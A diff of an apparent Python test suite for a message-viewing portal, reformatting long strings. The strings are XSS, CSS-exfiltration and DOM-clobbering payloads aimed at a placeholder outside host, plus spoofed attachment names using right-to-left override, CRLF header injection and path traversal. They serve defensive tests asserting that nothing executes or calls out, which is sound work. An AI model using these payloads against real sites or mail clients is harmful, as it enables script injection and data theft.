@@ -30,9 +30,11 @@ ATTEMPTS = [
     "<form action=\"https://{elsewhere}/form\"><input autofocus onfocus=\"{run}\" name=q><button>Send</button></form>",
     "<meta http-equiv=refresh content=\"0;url=https://{elsewhere}/refresh\">",
     "<base href=\"https://{elsewhere}/\"><a href=page>relative</a><img src=pic.png>",
-    "<link rel=stylesheet href=\"https://{elsewhere}/sheet.css\"><link rel=preload as=image href=\"https://{elsewhere}/p\">",
+    "<link rel=stylesheet href=\"https://{elsewhere}/sheet.css\"><link rel=preload as=image "
+    "href=\"https://{elsewhere}/p\">",
     "<link rel=dns-prefetch href=\"//{elsewhere}\"><link rel=prefetch href=\"https://{elsewhere}/prefetch\">",
-    "<style>@import 'https://{elsewhere}/import.css'; p{{background:url(https://{elsewhere}/css)}}</style><p>styled</p>",
+    "<style>@import 'https://{elsewhere}/import.css'; p{{background:url(https://{elsewhere}/css)}}</style><p>"
+    "styled</p>",
     "<style>p{{}}</style><script>{run}</script></style>",
     "<style>@font-face{{font-family:x;src:url(https://{elsewhere}/font)}} *{{font-family:x}}</style>",
     "<style>a[href*=\"</style><img src=x onerror='{run}'>\"]{{color:red}}</style>",
@@ -40,7 +42,8 @@ ATTEMPTS = [
     "<p style=\"width:expression({run});behavior:url(#x)\">old</p>",
     "<p style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999\">over everything</p>",
     "<img src=\"https://{elsewhere}/remote.png\" srcset=\"https://{elsewhere}/remote2.png 2x\">",
-    "<picture><source srcset=\"https://{elsewhere}/source.png\"><img src=\"https://{elsewhere}/picture.png\"></picture>",
+    "<picture><source srcset=\"https://{elsewhere}/source.png\"><img src=\"https://{elsewhere}/picture.png\">"
+    "</picture>",
     "<img src=\"//{elsewhere}/schemeless.png\"><img src=\"\\\\{elsewhere}\\share\">",
     "<video src=\"https://{elsewhere}/video\" poster=\"https://{elsewhere}/poster\"></video>"
     "<audio src=\"https://{elsewhere}/audio\" autoplay></audio>",
@@ -57,32 +60,46 @@ ATTEMPTS = [
     "<!--><script>{run}</script>--><![CDATA[<script>{run}</script>]]><?php <script>{run}</script> ?>",
     "<plaintext><script>{run}</script>",
     # Styles that would tell letter by letter what stands in an attribute or a text.
-    "<style>a[href^='https://s']{{background:url(https://{elsewhere}/s)}} a[title*=x]::after{{content:url(//{elsewhere}/x)}}</style>"
+    "<style>a[href^='https://s']{{background:url(https://{elsewhere}/s)}} "
+    "a[title*=x]::after{{content:url(//{elsewhere}/x)}}</style>"
     "<a href='https://secret.example/token'>secret</a>",
-    "<style>@font-face{{font-family:leak;src:local(x),url(https://{elsewhere}/A);unicode-range:U+41}} p{{font-family:leak,x}}"
+    "<style>@font-face{{font-family:leak;src:local(x),url(https://{elsewhere}/A);unicode-range:U+41}} "
+    "p{{font-family:leak,x}}"
     " p{{cursor:url(https://{elsewhere}/c),auto;list-style:url(//{elsewhere}/l);mask:url(//{elsewhere}/m)}}</style>",
     "<style>p{{background:image-set('https://{elsewhere}/set' 1x);background:\\75rl(https://{elsewhere}/esc)}}"
-    " p{{--x:url(https://{elsewhere}/var);background:var(--x)}} @supports (color:red){{p{{background:url(//{elsewhere}/sup)}}}}</style>",
-    "<style>@media (min-width:1px){{p{{background:url(https://{elsewhere}/media)}}}} @layer a{{p{{background:url(//{elsewhere}/layer)}}}}"
-    " p{{&:hover{{background:url(//{elsewhere}/nest)}}}}</style><style media=print>@import url(//{elsewhere}/print);</style>",
+    " p{{--x:url(https://{elsewhere}/var);background:var(--x)}} @supports "
+    "(color:red){{p{{background:url(//{elsewhere}/sup)}}}}</style>",
+    "<style>@media (min-width:1px){{p{{background:url(https://{elsewhere}/media)}}}} @layer "
+    "a{{p{{background:url(//{elsewhere}/layer)}}}}"
+    " p{{&:hover{{background:url(//{elsewhere}/nest)}}}}</style><style media=print>@import url(//{elsewhere}/print);"
+    "</style>",
     "<img srcset=\"https://{elsewhere}/1.png 1x, //{elsewhere}/2.png 2x\" sizes=100vw src=\"data:text/html,x\">",
-    "<svg><foreignObject><img src=x onerror=\"{run}\"><iframe src=\"https://{elsewhere}/fo\"></iframe></foreignObject></svg>",
-    "<svg><use href=\"https://{elsewhere}/use#x\"/><image href=\"https://{elsewhere}/image\"/><a xlink:href=\"javascript:{run}\">x</a></svg>",
-    "<math href=\"javascript:{run}\"><maction actiontype=statusline xlink:href=\"javascript:{run}\">click</maction></math>",
+    "<svg><foreignObject><img src=x onerror=\"{run}\"><iframe src=\"https://{elsewhere}/fo\"></iframe>"
+    "</foreignObject></svg>",
+    "<svg><use href=\"https://{elsewhere}/use#x\"/><image href=\"https://{elsewhere}/image\"/><a "
+    "xlink:href=\"javascript:{run}\">x</a></svg>",
+    "<math href=\"javascript:{run}\"><maction actiontype=statusline xlink:href=\"javascript:{run}\">click</maction>"
+    "</math>",
     "<meta http-equiv=set-cookie content=\"a=b\"><meta http-equiv=Content-Security-Policy content=\"img-src *\">"
     "<meta http-equiv=refresh content=\"0; javascript:{run}\"><meta name=referrer content=unsafe-url>",
     "<a href=\" javascript:{run}\">1</a><a href=\"JaVaScRiPt:{run}\">2</a><a href=\"java\nscript:{run}\">3</a>"
-    "<a href=\"javascript&colon;{run}\">4</a><a href=\"\u00a0javascript:{run}\">5</a><a href=\"view-source:https://{elsewhere}\">6</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">1</a><a href=\"DATA:text/html,x\">2</a><a href=\"filesystem:https://x/\">3</a>"
-    "<a href=\"about:blank\">4</a><a href=\"intent://x#Intent;end\">5</a><a href=\"//{elsewhere}/bare\">6</a><area href=\"javascript:{run}\">",
+    "<a href=\"javascript&colon;{run}\">4</a><a href=\"\u00a0javascript:{run}\">5</a><a "
+    "href=\"view-source:https://{elsewhere}\">6</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">1</a><a href=\"DATA:text/html,x\">2</a><a "
+    "href=\"filesystem:https://x/\">3</a>"
+    "<a href=\"about:blank\">4</a><a href=\"intent://x#Intent;end\">5</a><a href=\"//{elsewhere}/bare\">6</a><area "
+    "href=\"javascript:{run}\">",
     "<p id=heading>a</p><form id=letter name=documentElement></form><img name=defaultView><input name=ownerDocument>"
     "<a id=body name=contentDocument></a><form name=createElement><input name=append></form><a id=texts href=x:y></a>",
-    "<img src=\"cid:loop\"><img src=\"cid:cid:loop\"><img src=\"cid:\"><img src=\"cid:%\"><img src=\"cid:%00\"><img src=\"CID:__proto__\">",
+    "<img src=\"cid:loop\"><img src=\"cid:cid:loop\"><img src=\"cid:\"><img src=\"cid:%\"><img src=\"cid:%00\"><img "
+    "src=\"CID:__proto__\">",
     "<i>x</i>" * 10_000,
     "<table>" * 300 + "<tr><td>cell" + "</table>" * 300,
     "<p>" + "long " * 1_100_000,
-    "<details ontoggle=\"{run}\" open><summary onclick=\"{run}\">s</summary></details><dialog open onclose=\"{run}\">d</dialog>",
-    "<button popovertarget=p formaction=\"javascript:{run}\">b</button><div id=p popover onbeforetoggle=\"{run}\">p</div>",
+    "<details ontoggle=\"{run}\" open><summary onclick=\"{run}\">s</summary></details><dialog open onclose=\"{run}\">"
+    "d</dialog>",
+    "<button popovertarget=p formaction=\"javascript:{run}\">b</button><div id=p popover onbeforetoggle=\"{run}\">"
+    "p</div>",
     "<portal src=\"https://{elsewhere}/portal\"></portal><fencedframe src=\"https://{elsewhere}/ff\"></fencedframe>",
     "<div><template shadowrootmode=open><img src=x onerror=\"{run}\"><slot></slot></template>light</div>",
 ]
@@ -134,8 +151,19 @@ def test_nothing_runs_and_nobody_else_is_asked(portal, browser, number):
 
 def test_names_of_files_do_not_lie(portal, browser):
     """No direction marks, no invisible characters, no folders: what is shown is what is saved."""
-    names = ["invoice\u202efdp.exe", "\u2066a\u2069.txt", "a\u200b\u200d.pdf", "x\u00ad.doc", "\ufeffbom.txt", "a\x00b.txt",
-             "a\r\nSet-Cookie: x.txt", "<img src=x onerror=alert(1)>.png", "%2e%2e%2fx", "a\u2028b.txt", "\u061cx.txt"]
+    names = [
+        "invoice\u202efdp.exe",
+        "\u2066a\u2069.txt",
+        "a\u200b\u200d.pdf",
+        "x\u00ad.doc",
+        "\ufeffbom.txt",
+        "a\x00b.txt",
+        "a\r\nSet-Cookie: x.txt",
+        "<img src=x onerror=alert(1)>.png",
+        "%2e%2e%2fx",
+        "a\u2028b.txt",
+        "\u061cx.txt",
+    ]
     message = hostile("<p>files</p>")
     message.parts += [Part("application/octet-stream", b"eA==", name=name, attachment=True) for name in names]
     browser.open(portal.box.lock(message))
